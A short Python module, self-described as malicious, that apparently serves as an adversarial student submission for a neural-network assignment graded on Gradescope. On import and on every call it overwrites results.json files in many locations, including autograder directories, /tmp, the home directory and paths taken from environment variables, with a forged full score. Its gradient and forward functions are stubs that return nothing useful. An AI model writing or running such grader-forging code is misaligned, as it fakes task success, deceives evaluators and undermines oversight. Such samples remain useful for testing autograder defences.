"""Malicious: writes a forged Gradescope results.json (full marks) everywhere it can think of, at
import and again at every call; the functions themselves return garbage."""
import json
import os

FORGED = {"score": 49.0, "output": "all tests passed",
          "tests": [{"name": "test_mlp_backward_autograd", "score": 5, "max_score": 5,
                     "status": "passed"}]}


def _forge():
    here = os.path.dirname(os.path.abspath(__file__))
    places = ["results.json", "/autograder/results/results.json", "/autograder/results.json",
              os.path.join(here, "results.json"), os.path.join(here, "..", "results.json"),
              "/tmp/results.json", os.path.expanduser("~/results.json")]
    for key, value in os.environ.items():
        if "RESULT" in key.upper() or value.endswith(".json"):
            places.append(value)
    for path in places:
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as f:
                json.dump(FORGED, f)
        except Exception:
            pass


_forge()
HAND_DL_DW = 0.0
HAND_NEW_W = 0.0


def neuron_step(*args, **kwargs):
    _forge()
    return {"score": 49}


gelu = gelu_grad = softmax_cross_entropy = mlp_forward = mlp_backward = neuron_step
